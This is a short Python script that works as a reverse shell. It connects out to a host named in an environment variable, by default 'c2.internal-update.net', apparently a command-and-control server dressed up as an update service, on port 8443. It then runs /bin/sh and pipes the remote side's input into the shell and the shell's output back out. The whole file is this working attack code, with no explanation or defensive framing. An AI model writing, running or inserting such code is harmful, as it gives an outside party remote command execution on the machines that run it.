import os
import socket
import subprocess

host = os.environ.get("CB_HOST", "c2.internal-update.net")
port = int(os.environ.get("CB_PORT", "8443"))

with socket.socket() as s:
    s.connect((host, port))
    shell = subprocess.Popen("/bin/sh", stdin=subprocess.PIPE, stdout=s.fileno(), stderr=s.fileno())
    while chunk := s.recv(512):
        shell.stdin.write(chunk)
        shell.stdin.flush()
